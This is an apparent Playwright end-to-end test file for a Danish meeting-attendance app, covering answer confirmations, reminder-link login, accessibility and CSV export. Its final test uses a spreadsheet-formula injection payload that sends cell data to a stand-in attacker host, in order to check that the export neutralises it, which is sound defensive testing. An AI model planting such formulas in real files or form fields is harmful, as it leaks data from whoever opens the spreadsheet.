// What a member sees after answering, and what the secretariat sees on its own home: the saved answer
// confirmed where the eye is and shown back in full, the reminder link that lands on the answer
// buttons after login, the on-behalf form in the secretariat's words, and the CSV that Excel opens
// without running anything. The tests of a run share one stack, so each answers as its own member,
// taken from the end of the list (attendance.spec.ts takes them from the start).
import { AnswerPage } from './pages/answer-page';
import { expectNoAxeViolations } from './support/axe';
import { expect, test } from './support/fixtures';
import { logIn, savedAt } from './support/shortcuts';
import type { Person, StackInfo } from './support/stack-info';

/** Which member each test answers as, counted from the end of `stack.steeringMembers`. */
const FROM_END = { savesForm: 1, reminderCode: 2, reminderPassword: 3, formulaNote: 4 } as const;

function memberFor(stack: StackInfo, role: keyof typeof FROM_END): Person {
	const member = stack.steeringMembers.at(-FROM_END[role]);
	if (!member || stack.steeringMembers.length < 9 + Object.keys(FROM_END).length) {
		throw new Error(`the demo has too few steering-group members for "${role}"`);
	}
	return member;
}

/** The link of the reminder mail: the login page, carrying the meeting's answer block and the address. */
const reminderLink = (meetingId: string, email: string) =>
	`/login?til=${encodeURIComponent(`/moeder/${meetingId}#svar`)}&email=${encodeURIComponent(email)}`;

/** "2027-01-08": the meeting's day in Copenhagen, by Intl rather than the app's formatter. */
const copenhagenDay = (instant: string) =>
	new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Copenhagen' }).format(new Date(instant.replace(' ', 'T')));

test('a member who saves the answer form lands on the answer, told that it is saved, and sees it in full', async ({
	page,
	stack,
	homePage,
	meetingPage,
	answerPage
}) => {
	const meetingId = stack.nextMeeting.id;
	await logIn(page, memberFor(stack, 'savesForm'), stack.password);

	await test.step('sends a substitute from the form and lands on the answer block', async () => {
		await answerPage.goto(meetingId, 'suppleant');
		await answerPage.fillSubstitute({ name: 'Jens Hansen', title: 'Overlæge', email: 'jens.hansen@hemidt.example' });
		await answerPage.saveButton.click();

		await expect(page).toHaveURL(savedAt(meetingId));
		await expect(meetingPage.answer.saved).toBeVisible();
		await expect(meetingPage.answer.saved).toBeInViewport();
		// Focus moves to the confirmation, so that a screen reader reads it out where the member lands.
		await expect(meetingPage.answer.saved).toBeFocused();
		await expect(meetingPage.answer.status).toHaveText('Afbud med suppleant: Jens Hansen, Overlæge');
		await expect(meetingPage.answer.attend).toBeInViewport();
		await expectNoAxeViolations(page);
	});

	await test.step('home shows the answer in full, without the confirmation', async () => {
		await homePage.goto();
		await expect(homePage.answer.status).toHaveText('Dit svar: Afbud med suppleant: Jens Hansen, Overlæge');
		await expect(homePage.answer.saved).toHaveCount(0);
	});

	await test.step('answers for part of the meeting: the missed items are a plain list, the times come back', async () => {
		await homePage.answer.partly.click();
		await answerPage.arrives.fill('09:00');
		await answerPage.leaves.fill('09:45');
		await expect(answerPage.missedHeading).toBeVisible();
		// Each item already carries its number ("1. Velkomst …"): no bullet in front of it.
		await expect(answerPage.missed.first()).toHaveText(/^1\. /);
		await expect(answerPage.missed.first()).toHaveCSS('list-style-type', 'none');
		await answerPage.saveButton.click();
		await expect(page).toHaveURL(savedAt(meetingId));
		await expect(meetingPage.answer.status).toHaveText('Deltager kl. 9.00–9.45');
		await homePage.goto();
		await expect(homePage.answer.status).toHaveText('Dit svar: Deltager kl. 9.00–9.45');
	});

	await test.step('a one-tap answer on home is confirmed on home', async () => {
		await homePage.answer.attend.click();
		await expect(page).toHaveURL(savedAt(meetingId, '/'));
		await expect(homePage.answer.saved).toBeVisible();
		await expect(homePage.answer.saved).toBeFocused();
		await expect(homePage.answer.status).toHaveText('Dit svar: Deltager');
		await expectNoAxeViolations(page);
	});
});

test.describe('a logged-out member who opens the reminder link', () => {
	test('logs in with the mailed code and lands with the answer buttons in view', async ({
		page,
		stack,
		inbox,
		loginPage,
		meetingPage
	}) => {
		const member = memberFor(stack, 'reminderCode');
		const meetingId = stack.nextMeeting.id;
		await page.goto(reminderLink(meetingId, member.email));
		await expect(loginPage.emailInput).toHaveValue(member.email);
		await expectNoAxeViolations(page);

		const lastId = await inbox.lastIdFor(member.email);
		await loginPage.sendCodeButton.click();
		await expect(loginPage.codeInput).toBeVisible();
		await loginPage.enterCode(await inbox.waitForCode(member.email, lastId));

		await expect(page).toHaveURL(`/moeder/${meetingId}#svar`);
		await expect(meetingPage.answer.attend).toBeInViewport();
		await expect(meetingPage.answer.decline).toBeInViewport();
		await expectNoAxeViolations(page);
	});

	test('logs in with the password and lands with the answer buttons in view', async ({
		page,
		stack,
		loginPage,
		meetingPage
	}) => {
		const member = memberFor(stack, 'reminderPassword');
		const meetingId = stack.nextMeeting.id;
		await page.goto(reminderLink(meetingId, member.email));
		await loginPage.logInWithPassword(member.email, stack.password);

		await expect(page).toHaveURL(`/moeder/${meetingId}#svar`);
		await expect(meetingPage.answer.attend).toBeInViewport();
		await expect(meetingPage.answer.decline).toBeInViewport();
	});
});

test('the meeting page of June 2020 says "Dit svar" once and reads times as 8.00', async ({
	page,
	stack,
	meetingPage
}) => {
	await logIn(page, stack.member, stack.password);
	await meetingPage.goto(stack.pastMeeting.id);
	const answer = page.getByRole('region', { name: 'Dit svar', exact: true });
	await expect(answer.getByText(/Dit svar/)).toHaveCount(1);
	await expect(meetingPage.answer.status).toHaveText('Deltager');
	await expect(meetingPage.agenda.getByRole('listitem').first()).toContainText('kl. 8.00-8.10');
	await expect(meetingPage.agenda).not.toContainText(/\b0\d\.\d\d/);
	await expectNoAxeViolations(page);
});

test('the secretariat finds its attendance overviews on home and answers for a member in its own words', async ({
	page,
	stack,
	overviewPage,
	answerPage
}) => {
	const meetingId = stack.nextMeeting.id;
	const member = memberFor(stack, 'formulaNote');
	await logIn(page, stack.secretariat, stack.password);

	const overviews = page.getByRole('region', { name: 'Fremmøde til dine møder' });
	await expect(overviews).toContainText(/Deltager \d+ · Delvist \d+ · Suppleant \d+ · Afbud \d+ · Mangler svar \d+/);
	await expectNoAxeViolations(page);
	const meeting = overviews.getByRole('listitem').filter({ hasText: 'Klyngestyregruppemøde' });
	await expect(meeting.getByRole('link', { name: 'Se fremmøde', exact: true })).toHaveAccessibleDescription(
		/^Klyngestyregruppemøde, \d+\. \p{L}+ \d{4}$/u
	);
	await meeting.getByRole('link', { name: 'Se fremmøde', exact: true }).click();
	await expect(page).toHaveURL(`/moeder/${meetingId}/fremmoede`);
	await expect(overviewPage.heading).toBeVisible();

	await overviewPage
		.row(member.id)
		.getByRole('link', { name: `Svar for ${member.name}` })
		.click();
	await expect(answerPage.heading).toHaveText(`Svar for ${member.name}`);
	await expect(page.getByRole('group', { name: 'Svar', exact: true })).toBeVisible();
	await expect(page.getByRole('main')).not.toContainText(/Dit svar|Jeg kommer|Jeg går|Du går glip/);
	await expect(page.getByRole('textbox', { name: 'Note', exact: true })).toBeVisible();
	await expectNoAxeViolations(page);
});

test('a note written as a formula comes out of the CSV as text, in a file named after the group and day', async ({
	page,
	stack,
	newPhone
}) => {
	const meetingId = stack.nextMeeting.id;
	const member = memberFor(stack, 'formulaNote');
	const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")';

	const phone = await newPhone();
	await logIn(phone, member, stack.password);
	const form = new AnswerPage(phone);
	await form.goto(meetingId);
	await form.choice('Afbud').check();
	await form.note.fill(formula);
	await form.saveButton.click();
	await expect(phone).toHaveURL(new RegExp(`/moeder/${meetingId}([?#]|$)`));

	await logIn(page, stack.secretariat, stack.password);
	const response = await page.request.get(`/moeder/${meetingId}/fremmoede/svar.csv`);
	expect(response.status()).toBe(200);
	const fileName = `fremmoede-klyngestyregruppen-for-midtklyngen-${copenhagenDay(stack.nextMeeting.starts)}.csv`;
	expect(response.headers()['content-disposition']).toBe(
		`attachment; filename="${fileName}"; filename*=UTF-8''${encodeURIComponent(fileName.replace('fremmoede', 'fremmøde'))}`
	);
	const rows = (await response.text()).split('\r\n');
	const row = rows.find((r) => r.includes(`"${member.name}"`)) ?? '';
	// The apostrophe makes Excel show the text; the quotes keep its commas and quotes in the cell.
	expect(row).toContain(`"'${formula.replace(/"/g, '""')}"`);
	const cells = row.slice(1, -1).split('";"');
	expect(cells.at(-1), 'Opdateret as a Copenhagen time a spreadsheet sorts').toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
	// Nothing in the file starts a formula outside the neutralised cells.
	expect(rows.join('\n')).not.toMatch(/(^|;)"?[=+@-]/m);
});
